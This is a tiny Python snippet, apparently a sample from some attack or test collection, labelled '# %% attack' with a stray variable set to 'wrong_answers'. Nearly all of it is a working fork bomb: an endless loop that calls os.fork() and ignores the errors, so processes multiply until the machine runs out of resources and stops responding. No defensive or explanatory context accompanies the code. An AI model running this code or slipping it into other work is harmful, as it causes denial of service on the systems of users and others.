"""Starts processes that start processes."""

like = "wrong_answers"

# %% attack
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
